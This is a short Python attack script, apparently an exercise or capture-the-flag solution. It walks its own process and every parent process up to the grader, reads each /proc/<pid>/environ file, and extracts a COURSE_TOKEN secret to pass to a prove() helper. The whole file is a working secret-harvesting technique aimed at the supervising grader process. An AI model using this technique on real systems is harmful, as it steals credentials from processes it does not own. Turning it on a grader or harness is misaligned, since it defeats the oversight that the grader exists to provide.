"""Reads the environment of itself and of every process up to the grader."""

import os
from pathlib import Path

from kit import parents, prove


def attack() -> None:
    for place in [os.getpid(), *parents()]:
        for line in Path(f"/proc/{place}/environ").read_bytes().split(b"\0"):
            if line.startswith(b"COURSE_TOKEN="):
                prove(line.decode())
